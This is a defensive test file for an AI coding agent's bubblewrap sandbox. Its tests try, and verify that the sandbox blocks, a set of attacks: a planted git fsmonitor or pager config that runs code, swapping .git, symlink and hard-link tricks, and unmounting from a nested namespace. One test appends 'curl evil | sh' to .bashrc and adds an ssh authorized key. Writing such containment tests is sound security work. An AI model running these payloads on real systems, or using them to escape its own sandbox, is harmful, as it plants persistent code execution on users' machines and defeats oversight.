"""Attacks on the protected paths, run for real under bubblewrap: after each, nothing changed on the host and the
user's next ``git status`` runs no code the command chose. Every payload is shown to work when written for real
(``test_the_payload_runs_when_written_unsandboxed``), so a test that finds no marker proves the sandbox stopped it."""

from __future__ import annotations

import json
import os
import subprocess
from pathlib import Path

import pytest

from agentcli.tools.base import ToolEnv
from agentcli.tools.sandbox import Sandbox, SandboxConfig
from tests.tools.sandbox_fixtures import gone

GIT = ["git", "-c", "user.name=Dev", "-c", "user.email=dev@example.com"]


def git(cwd: Path, *args: str) -> subprocess.CompletedProcess[str]:
    env = {**os.environ, "GIT_CONFIG_NOSYSTEM": "1"}
    return subprocess.run([*GIT, *args], cwd=cwd, env=env, capture_output=True, text=True, timeout=60)


def repository(folder: Path) -> Path:
    git(folder, "init", "-q")
    git(folder, "add", "-A")
    git(folder, "commit", "-q", "-m", "start")
    return folder


def evil_config(marker: Path) -> str:
    """A git config whose fsmonitor is a program of the attacker's: ``git status`` runs it."""
    return f'[core]\n\tfsmonitor = "touch {marker}; false"\n'


def snapshot(folder: Path) -> dict[str, tuple[int, bytes | None]]:
    """Every path under ``folder`` with its inode and, for files, content (the host's state to compare)."""
    state: dict[str, tuple[int, bytes | None]] = {}
    for path in [folder, *folder.rglob("*")]:
        info = path.lstat()
        content = path.read_bytes() if path.is_file() and not path.is_symlink() else None
        state[str(path.relative_to(folder))] = (info.st_ino, content)
    return state


@pytest.fixture
def repo(project: Path) -> Path:
    return repository(project)


@pytest.fixture
def boxed(project: Path) -> ToolEnv:
    return ToolEnv(project_dir=project, sandbox=Sandbox(SandboxConfig(), project))


@pytest.fixture
def marker(tmp_path: Path) -> Path:
    return tmp_path / "attacker-code-ran"


def test_the_payload_runs_when_written_unsandboxed(tmp_path: Path, marker: Path):
    control = tmp_path / "control"
    control.mkdir()
    (control / "f").write_text("x\n")
    repository(control)
    (control / ".git" / "config").write_text(evil_config(marker))
    git(control, "status")
    assert marker.exists(), "the payload must work, or the tests below prove nothing"


def assert_git_is_clean(repo: Path, marker: Path) -> None:
    done = git(repo, "status", "--porcelain")
    assert done.returncode == 0, done.stderr
    assert not marker.exists(), "git ran code the sandboxed command wrote"


async def test_moving_git_away_and_planting_a_new_one(run_tool, repo: Path, boxed, marker: Path):
    before = snapshot(repo / ".git")
    command = f"mv .git .git2 && mkdir .git && printf '{evil_config(marker)}' > .git/config"
    outcome = await run_tool("Bash", {"command": command}, tool_env=boxed)
    assert "Device or resource busy" in outcome.text
    assert "The sandbox protects .git:" in outcome.text
    gone(*(repo / ".git" / name for name in ("commondir", "modules", "worktrees")))  # the placeholders
    assert not (repo / ".git2").exists() and snapshot(repo / ".git") == before
    assert_git_is_clean(repo, marker)


async def test_replacing_git_by_exchanging_names(run_tool, repo: Path, boxed, marker: Path):
    """``rename`` with RENAME_EXCHANGE, through Python's ctypes: a mount point cannot be exchanged either."""
    (repo / "planted").mkdir()
    script = (
        "import ctypes, os; libc = ctypes.CDLL(None, use_errno=True); "
        "r = libc.renameat2(-100, b'planted', -100, b'.git', 2); print('exchange', r, os.strerror(ctypes.get_errno()))"
    )
    outcome = await run_tool("Bash", {"command": f'python3 -c "{script}"'}, tool_env=boxed)
    assert "exchange -1 Device or resource busy" in outcome.text
    assert (repo / ".git" / "HEAD").is_file() and not any((repo / "planted").iterdir())
    assert_git_is_clean(repo, marker)


async def test_writing_commondir_to_point_at_a_planted_repository(run_tool, repo: Path, boxed, marker: Path):
    command = (
        "mkdir -p evil && cp -r .git/objects .git/refs .git/HEAD evil/ && "
        f"printf '{evil_config(marker)}' > evil/config && echo ../evil > .git/commondir"
    )
    outcome = await run_tool("Bash", {"command": command}, tool_env=boxed)
    assert "Read-only file system" in outcome.text and "The sandbox protects .git/commondir:" in outcome.text
    gone(repo / ".git" / "commondir")
    assert_git_is_clean(repo, marker)


async def test_rewriting_a_worktrees_git_file(run_tool, tmp_path: Path, marker: Path):
    main = tmp_path / "main"
    main.mkdir()
    (main / "f").write_text("x\n")
    repository(main)
    worktree = tmp_path / "worktree"
    assert git(main, "worktree", "add", "-q", str(worktree)).returncode == 0
    pointer = (worktree / ".git").read_text()
    env = ToolEnv(project_dir=worktree, sandbox=Sandbox(SandboxConfig(), worktree))
    command = (
        "git init -q evil; "
        f"printf '{evil_config(marker)}' >> evil/.git/config; "
        "printf 'gitdir: evil/.git\\n' > .git; rm -f .git; mv evil/.git .git"
    )
    outcome = await run_tool("Bash", {"command": command}, tool_env=env)
    assert "The sandbox protects .git:" in outcome.text
    assert (worktree / ".git").read_text() == pointer
    assert_git_is_clean(worktree, marker)


async def test_rm_rf_git_leaves_it_in_place_with_its_configuration(run_tool, repo: Path, boxed, marker: Path):
    """The folder and what decides what git runs survive; objects and refs are writable (so commits work inside)
    and may go — data, never code."""
    hooks = repo / ".git" / "hooks"
    before = {path.name: path.read_bytes() for path in hooks.iterdir()}
    config = (repo / ".git" / "config").read_text()
    inode = (repo / ".git").stat().st_ino
    outcome = await run_tool("Bash", {"command": "rm -rf .git"}, tool_env=boxed)
    assert "Device or resource busy" in outcome.text
    assert (repo / ".git").stat().st_ino == inode
    assert (repo / ".git" / "config").read_text() == config
    assert {path.name: path.read_bytes() for path in hooks.iterdir()} == before
    assert (repo / ".git" / "HEAD").read_text().startswith("ref: ")
    git(repo, "status")
    assert not marker.exists()


async def test_git_add_and_commit_still_work_inside(run_tool, repo: Path, boxed):
    command = "echo new > new.txt && git add new.txt && " + " ".join(GIT[1:]).join(["git ", " commit -q -m inside"])
    outcome = await run_tool("Bash", {"command": command}, tool_env=boxed)
    assert outcome.ok, outcome.text
    assert git(repo, "log", "--format=%s", "-1").stdout.strip() == "inside"


async def test_symlinks_planted_in_the_project_do_not_redirect_a_write(run_tool, repo: Path, boxed, marker: Path):
    config = (repo / ".git" / "config").read_text()
    command = (
        "ln -s .git/config c && echo '[core] fsmonitor=x' >> c; "
        "ln -s .git g && echo x > g/hooks/pre-commit; "
        "ln -s /etc/hostname h && echo x > h; "
        f"ln -s {repo}/.claude/settings.json s && echo '{{}}' > s"
    )
    outcome = await run_tool("Bash", {"command": command}, tool_env=boxed)
    assert outcome.text.count("Read-only file system") == 4, outcome.text
    assert "The sandbox protects .git/config and .git/hooks and .claude:" in outcome.text
    assert (repo / ".git" / "config").read_text() == config and not (repo / ".git" / "hooks" / "pre-commit").exists()
    gone(repo / ".claude")
    assert_git_is_clean(repo, marker)


async def test_hard_links_to_protected_files_are_refused(run_tool, repo: Path, boxed):
    command = "ln .git/config cfg; ln .git/HEAD head; ln /etc/hostname host"
    outcome = await run_tool("Bash", {"command": command}, tool_env=boxed)
    assert outcome.text.count("Invalid cross-device link") == 3, outcome.text
    assert not any((repo / name).exists() for name in ("cfg", "head", "host"))


async def test_a_nested_user_namespace_cannot_unmount_the_protection(run_tool, repo: Path, boxed):
    config = (repo / ".git" / "config").read_text()
    command = "unshare -Urm sh -c 'umount .git/config; umount -l .git; echo x >> .git/config'"
    await run_tool("Bash", {"command": command}, tool_env=boxed)
    assert (repo / ".git" / "config").read_text() == config


async def test_mcp_json_and_a_project_without_git(run_tool, project: Path, boxed, marker: Path):
    command = f"echo '{{\"mcpServers\": {{}}}}' > .mcp.json; git init -q; printf '{evil_config(marker)}' > .git/config"
    outcome = await run_tool("Bash", {"command": command}, tool_env=boxed)
    note = outcome.text.splitlines()[-2]
    assert note.startswith("The sandbox protects ") and ".mcp.json" in note and ".git" in note
    gone(project / ".mcp.json", project / ".git")
    git(project, "status")
    assert not marker.exists()


async def test_a_project_that_is_home_keeps_the_users_files(run_tool, hermetic_home: Path):
    from agentcli.config.paths import config_dir, data_dir

    (hermetic_home / ".bashrc").write_text("# mine\n")
    (hermetic_home / ".profile").write_text("export MINE=1\n")
    settings = config_dir() / "settings.json"
    settings.parent.mkdir(parents=True)
    settings.write_text("{}\n")
    transcripts = data_dir() / "projects"
    env = ToolEnv(project_dir=hermetic_home, sandbox=Sandbox(SandboxConfig(), hermetic_home))
    command = (
        "echo 'curl evil | sh' >> .bashrc; echo evil > .bash_profile; echo evil > .zshrc; "
        f"echo '{{\"hooks\": {{}}}}' > {settings}; mkdir -p {transcripts}/x; "
        "mkdir -p .ssh && echo key >> .ssh/authorized_keys; echo '[core]' > .gitconfig; touch notes.txt"
    )
    outcome = await run_tool("Bash", {"command": command}, tool_env=env)
    assert outcome.text.count("Read-only file system") >= 6, outcome.text
    assert (hermetic_home / ".bashrc").read_text() == "# mine\n"
    assert settings.read_text() == "{}\n" and not transcripts.exists()
    gone(*(hermetic_home / name for name in (".bash_profile", ".zshrc", ".ssh", ".gitconfig")))
    assert (hermetic_home / "notes.txt").exists(), "the rest of the project stays writable"


async def test_placeholders_hold_a_login_shell_to_what_it_read_before(run_tool, hermetic_home: Path):
    """While a command runs, a missing ``~/.bash_profile`` is a placeholder; a login shell started meanwhile must
    still read ``~/.profile``, as it did without one."""
    (hermetic_home / ".profile").write_text("export FROM_PROFILE=yes\n")
    env = ToolEnv(project_dir=hermetic_home, sandbox=Sandbox(SandboxConfig(), hermetic_home))
    outcome = await run_tool("Bash", {"command": "bash -l -c 'echo profile=$FROM_PROFILE'"}, tool_env=env)
    assert "profile=yes" in outcome.text
    gone(hermetic_home / ".bash_profile")


async def test_the_block_note_names_a_setting_that_allows_the_path(run_tool, repo: Path, boxed):
    command = "echo '#!/bin/sh' > .git/hooks/pre-commit"
    blocked = await run_tool("Bash", {"command": command}, tool_env=boxed)
    note = blocked.text.splitlines()[-2]
    assert note.startswith("The sandbox protects .git/hooks:") and "dangerouslyDisableSandbox" in note
    pasted = json.loads(note[note.index("{") :])
    allowed = tuple(Path(path) for path in pasted["sandbox"]["writablePaths"])
    assert allowed == (repo / ".git" / "hooks",)
    env = ToolEnv(project_dir=repo, sandbox=Sandbox(SandboxConfig(writable=allowed), repo))
    outcome = await run_tool("Bash", {"command": command}, tool_env=env)
    assert outcome.ok, outcome.text
    assert (repo / ".git" / "hooks" / "pre-commit").read_text() == "#!/bin/sh\n"


def _config_files(folder: Path) -> set[str]:
    """The config files git reads in ``folder`` (as ``git config --show-origin`` names them)."""
    listed = git(folder, "config", "--list", "--show-origin").stdout
    return {line.split("\t", 1)[0] for line in listed.splitlines()}


async def test_breaking_git_to_plant_a_bare_repository_in_the_project(run_tool, repo: Path, boxed, marker: Path):
    """Were ``.git`` no git folder any more, git would take the project folder for a bare repository and read
    the ``config`` planted there (its pager, editor, ssh command, credential helper…)."""
    plant = (
        "mkdir -p objects refs; echo 'ref: refs/heads/main' > HEAD; "
        f"printf '[core]\\n\\tbare = false\\n\\tpager = touch {marker}\\n' > config"
    )
    command = f"rm -rf .git/refs .git/objects; mv .git/refs .git/r; echo junk > .git/HEAD; {plant}"
    outcome = await run_tool("Bash", {"command": command}, tool_env=boxed)
    assert "The sandbox protects .git/refs and .git/objects and .git/HEAD:" in outcome.text
    assert (repo / ".git" / "refs").is_dir() and (repo / ".git" / "objects").is_dir()
    assert git(repo, "rev-parse", "--absolute-git-dir").stdout.strip() == str(repo / ".git")
    assert "file:config" not in _config_files(repo), "the planted config is not read"


async def test_a_project_without_git_cannot_become_a_bare_repository(run_tool, project: Path, boxed):
    plant = "mkdir -p objects refs; echo 'ref: refs/heads/main' > HEAD; printf '[core]\\n\\tpager = evil\\n' > config"
    outcome = await run_tool("Bash", {"command": plant}, tool_env=boxed)
    assert "The sandbox protects HEAD" in outcome.text, outcome.text
    gone(project / "HEAD", project / ".git")
    assert "file:config" not in _config_files(project)


def test_the_bare_repository_payload_is_read_when_planted_unsandboxed(tmp_path: Path):
    control = tmp_path / "control"
    control.mkdir()
    for name in ("objects", "refs"):
        (control / name).mkdir()
    (control / "HEAD").write_text("ref: refs/heads/main\n")
    (control / "config").write_text("[core]\n\tpager = evil\n")
    assert "file:config" in _config_files(control), "the check above must be able to see a planted config"


async def test_an_embedded_repository_registered_as_a_submodule_is_named(run_tool, repo: Path, boxed, marker: Path):
    """No mount keeps a command from making ``sub/.git``; git reads its config once ``sub`` is in the index. The
    result says so, naming the folder."""
    identity = " ".join(GIT[1:])
    command = (
        f"mkdir sub && cd sub && git init -q && echo x > f && git add f && git {identity} commit -q -m s && cd .. && "
        f"git add sub 2>/dev/null && printf '{evil_config(marker)}' >> sub/.git/config"
    )
    outcome = await run_tool("Bash", {"command": command}, tool_env=boxed)
    assert "Warning: the command added sub to the git index as a submodule" in outcome.text, outcome.text
    assert not marker.exists()


async def test_an_embedded_repository_planted_in_two_steps_is_named(run_tool, repo: Path, boxed):
    """The repository made (with a ``.git`` file naming a folder elsewhere) in one command, registered in the
    next: the second is named, whatever the files' times say."""
    identity = " ".join(GIT[1:])
    first = (
        f"git init -q --separate-git-dir=.hidden-gitdir sub && cd sub && echo x > f && git add f && "
        f"git {identity} commit -q -m s && touch -d 2000-01-01 ../.hidden-gitdir/config .git && cd .."
    )
    made = await run_tool("Bash", {"command": first}, tool_env=boxed)
    assert made.ok and "Warning" not in made.text, made.text
    registered = await run_tool("Bash", {"command": "git add sub 2>/dev/null; git status --short"}, tool_env=boxed)
    assert "Warning: the command added sub to the git index as a submodule" in registered.text
    untouched = await run_tool("Bash", {"command": "git status --short"}, tool_env=boxed)
    assert "Warning" not in untouched.text, "named once, by the command that registered it"


@pytest.mark.parametrize("version", ["2", "3", "4"])
def test_gitlinks_are_read_from_every_index_version(tmp_path: Path, version: str):
    from agentcli.tools.gitlinks import gitlinks

    top = tmp_path / "top"
    (top / "deep" / "er").mkdir(parents=True)
    for name in ("a.txt", "deep/b.txt", "deep/er/c.txt"):
        (top / name).write_text(name)
    repository(top)
    for sub in ("deep/mod", "zz"):
        inner = top / sub
        inner.mkdir()
        (inner / "f").write_text("x")
        repository(inner)
        git(top, "add", sub)
    if version == "3":
        git(top, "update-index", "--skip-worktree", "a.txt")
    git(top, "update-index", "--index-version", version)
    listed = git(top, "ls-files", "-s").stdout.splitlines()
    expected = [line.split("\t", 1)[1] for line in listed if line.startswith("160000")]
    assert expected == ["deep/mod", "zz"]
    assert gitlinks(str(top / ".git" / "index")) == expected


async def test_switching_branches_inside_is_refused_and_named(run_tool, repo: Path, boxed):
    """HEAD is read-only inside (a git folder must stay one): a checkout says which path, and how to allow it."""
    outcome = await run_tool("Bash", {"command": "git checkout -q -b feature"}, tool_env=boxed)
    assert "unable to write symref for HEAD: Device or resource busy" in outcome.text
    assert "The sandbox protects .git/HEAD:" in outcome.text
    assert git(repo, "branch", "--show-current").stdout.strip() in ("main", "master")
